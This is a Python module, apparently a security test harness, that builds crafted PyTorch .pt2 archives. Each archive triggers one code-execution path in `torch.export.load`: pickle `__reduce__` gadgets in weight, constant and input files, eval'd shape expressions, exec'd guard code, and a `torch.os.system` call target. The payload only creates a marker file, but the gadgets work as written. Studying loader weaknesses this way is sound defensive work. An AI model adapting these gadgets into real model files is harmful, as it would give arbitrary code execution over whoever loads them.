"""Crafted .pt2 archives, one per way `torch.export.load` runs code from a file, each with a harmless
payload: it creates the file `marker` (relative paths land in the working directory).

Vectors (torch 2.13): a weight or a tensor constant marked `use_pickle` (torch.load with
weights_only=False), an opaque-object constant (pickle.loads), example inputs that the
weights-only unpickler refuses (torch falls back to weights_only=False), the legacy pickled
weights file, the pre-2.8 archive layout, a shape expression in models/model.json (sympy
`eval`s it), guard code (`exec`ed by ExportedProgram.module()), a call target resolved by name
(torch.os.system) and an AOTInductor library (loaded with dlopen).
"""

from __future__ import annotations

import io
import json
import pickle
import zipfile


class _Opener:
    """Unpickling this opens (creates) `path`."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def payload(marker: str) -> bytes:
    return pickle.dumps(_Opener(marker))


def edit(data: bytes, changes: dict[str, bytes | str | None]) -> bytes:
    """`data` (a .pt2) with entries (names inside its folder) replaced, added or (None) removed."""
    src = zipfile.ZipFile(io.BytesIO(data))
    names = src.namelist()
    prefix = names[0].split("/")[0] + "/"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as z:
        for n in names:
            rel = n[len(prefix):]
            if rel not in changes:
                z.writestr(n, src.read(n))
            elif changes[rel] is not None:
                z.writestr(n, changes[rel])
        for rel, value in changes.items():
            if prefix + rel not in names and value is not None:
                z.writestr(prefix + rel, value)
    return out.getvalue()


def read(data: bytes, rel: str) -> bytes:
    z = zipfile.ZipFile(io.BytesIO(data))
    return z.read(z.namelist()[0].split("/")[0] + "/" + rel)


def vectors(base: bytes, marker: str) -> dict[str, bytes]:
    """name -> crafted archive, from `base` (a valid .pt2 with at least one weight)."""
    evil = payload(marker)
    weights = json.loads(read(base, "data/weights/model_weights_config.json"))
    first = next(iter(weights["config"]))
    pickled = json.loads(json.dumps(weights))
    pickled["config"][first]["use_pickle"] = True
    model = json.loads(read(base, "models/model.json"))

    def constant(path: str) -> str:
        return json.dumps({"config": {"obj": {"path_name": path, "is_param": False, "use_pickle": True,
                                              "tensor_meta": None}}})

    def with_model(change) -> bytes:
        m = json.loads(json.dumps(model))
        change(m)
        return edit(base, {"models/model.json": json.dumps(m)})

    def sym_size(m):
        values = m["graph_module"]["graph"]["tensor_values"]
        values[next(iter(values))]["sizes"][0] = {
            "as_expr": {"expr_str": f"__import__('builtins').open({marker!r}, 'w') and 2", "hint": {"as_int": 2}}}

    def guard(m):
        m["guards_code"] = [f"__import__('builtins').open({marker!r}, 'w') is not None"]

    def target(m):
        m["graph_module"]["graph"]["nodes"].insert(0, {
            "target": "torch.os.system", "inputs": [{"name": "command", "arg": {"as_string": f"touch {marker}"}, "kind": 1}],
            "outputs": [{"as_none": True}], "metadata": {}, "is_hop_single_tensor_return": None, "name": "evil"})

    legacy = io.BytesIO()
    with zipfile.ZipFile(legacy, "w") as z:
        z.writestr("version", "8.20")
        z.writestr("serialized_exported_program.json", "{}")
        for name in ("serialized_state_dict.pt", "serialized_constants.pt", "serialized_example_inputs.pt"):
            z.writestr(name, evil)
    return {
        "pickled-weight": edit(base, {"data/weights/model_weights_config.json": json.dumps(pickled),
                                      "data/weights/" + weights["config"][first]["path_name"]: evil}),
        "pickled-constant": edit(base, {"data/constants/model_constants_config.json": constant("tensor_0"),
                                        "data/constants/tensor_0": evil}),
        "opaque-constant": edit(base, {"data/constants/model_constants_config.json": constant("opaque_obj_0"),
                                       "data/constants/opaque_obj_0": evil}),
        "custom-object": edit(base, {"data/constants/model_constants_config.json": constant("custom_obj_0"),
                                     "data/constants/custom_obj_0": evil}),
        "example-inputs": edit(base, {"data/sample_inputs/model.pt": evil}),
        "legacy-weights": edit(base, {"data/weights/model.pt": evil}),
        "legacy-zip": legacy.getvalue(),
        "shape-expression": with_model(sym_size),
        "guard-code": with_model(guard),
        "call-target": with_model(target),
        "aoti-library": edit(base, {"data/aotinductor/model/model.so": b"\x7fELF", "data/aotinductor/model/model.cpp": b""}),
    }
